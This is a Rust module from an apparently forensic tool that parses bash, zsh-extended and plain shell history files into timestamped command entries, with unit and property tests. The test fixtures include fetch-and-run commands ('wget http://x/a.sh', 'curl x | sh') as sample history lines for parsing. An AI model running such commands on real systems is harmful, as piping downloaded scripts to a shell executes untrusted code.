//! Shell histories: bash (with optional `#EPOCH` lines), zsh extended (`: EPOCH:0;cmd`), and
//! plain one-command-per-line files (ash, mysql, python).

use firewarden_model::Timestamp;

/// One command from a history file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Entry {
    /// 1-based line number of the command.
    pub line: u64,
    /// When it was run, if the history records times.
    pub time: Option<Timestamp>,
    /// The command text.
    pub command: String,
}

/// Turns history lines into commands, one line at a time (histories can be large).
#[derive(Debug, Default)]
pub struct Parser {
    pending_time: Option<Timestamp>,
    // zsh stores a multi-line command as lines ending in `\`: the continuation lines carry the
    // time of the line that began the command.
    continued: Option<Timestamp>,
}

impl Parser {
    /// Feeds one line; returns a command when the line holds one.
    pub fn feed(&mut self, line_no: u64, line: &[u8]) -> Option<Entry> {
        let text = String::from_utf8_lossy(line);
        let text = text.trim_end();
        if let Some(epoch) = text.strip_prefix('#')
            && !epoch.is_empty()
            && epoch.len() <= 12
            && epoch.bytes().all(|b| b.is_ascii_digit())
        {
            self.pending_time = epoch.parse().ok().map(Timestamp);
            return None;
        }
        if let Some(t) = self.continued.take() {
            if text.ends_with('\\') {
                self.continued = Some(t);
            }
            return Some(Entry {
                line: line_no,
                time: Some(t),
                command: text.to_string(),
            });
        }
        let time = self.pending_time.take();
        if let Some(rest) = text.strip_prefix(": ")
            && let Some((meta, cmd)) = rest.split_once(';')
            && let Some((epoch, _)) = meta.split_once(':')
            && let Ok(epoch) = epoch.trim().parse::<i64>()
        {
            if cmd.ends_with('\\') {
                self.continued = Some(Timestamp(epoch));
            }
            return Some(Entry {
                line: line_no,
                time: Some(Timestamp(epoch)),
                command: cmd.to_string(),
            });
        }
        if text.trim().is_empty() {
            return None;
        }
        Some(Entry {
            line: line_no,
            time,
            command: text.to_string(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn bash_with_timestamps_and_zsh_extended() {
        let mut p = Parser::default();
        assert_eq!(p.feed(1, b"#1700000000"), None);
        let e = p.feed(2, b"wget http://x/a.sh").unwrap();
        assert_eq!(
            (e.line, e.time, e.command.as_str()),
            (2, Some(Timestamp(1_700_000_000)), "wget http://x/a.sh")
        );
        let z = p.feed(3, b": 1700000100:0;curl x | sh").unwrap();
        assert_eq!(
            (z.time, z.command.as_str()),
            (Some(Timestamp(1_700_000_100)), "curl x | sh")
        );
        let plain = p.feed(4, b"ls -la").unwrap();
        assert_eq!(plain.time, None);
    }

    #[test]
    fn plaso_histories_parse() {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../../../shared/data/plaso-linux-fixtures/test_data");
        let Ok(data) = std::fs::read(dir.join("zsh_extended_history.txt")) else {
            eprintln!("skipping: shared data not present");
            return;
        };
        let mut p = Parser::default();
        let entries: Vec<_> = data
            .split(|b| *b == b'\n')
            .enumerate()
            .filter_map(|(i, l)| p.feed(i as u64 + 1, l))
            .collect();
        assert!(entries.iter().all(|e| e.time.is_some()), "{entries:?}");
    }

    proptest! {
        #[test]
        fn never_panics(lines in proptest::collection::vec(proptest::collection::vec(any::<u8>(), 0..60), 0..20)) {
            let mut p = Parser::default();
            for (i, l) in lines.iter().enumerate() { let _ = p.feed(i as u64, l); }
        }
    }
}
